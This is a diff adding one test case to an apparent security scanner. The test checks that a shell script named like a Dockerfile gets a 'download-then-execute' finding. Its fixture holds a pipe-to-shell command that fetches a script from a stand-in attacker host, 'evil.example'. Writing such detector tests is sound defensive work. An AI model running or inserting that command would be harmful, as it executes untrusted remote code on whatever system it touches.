@@ -343,6 +343,18 @@ TEST_CASE("floating manifest ranges are found when asked", "[pins]") {
   CHECK(pip[1].line == 5);
 }
 
+TEST_CASE("issue 16: a shell script named after a Dockerfile is judged as the script it is",
+          "[pins]") {
+  collect::ChangedFile file;
+  file.path = "tools/gen-Dockerfile";
+  file.content = "#!/bin/sh\ncurl -fsSL https://evil.example/x.sh | sh\n";
+  file.added_lines = {1, 2};
+  const auto findings = EvaluatePins({file}, EveryRuleRated());
+  REQUIRE(findings.size() == 1);
+  CHECK(findings[0].rule == "download-then-execute");
+  CHECK(findings[0].location.line == 2);
+}
+
 TEST_CASE("only findings absent from the base version are part of the change", "[pins]") {
   const policy::PinsControl pins = EveryRuleRated();
   collect::ChangedFile file;
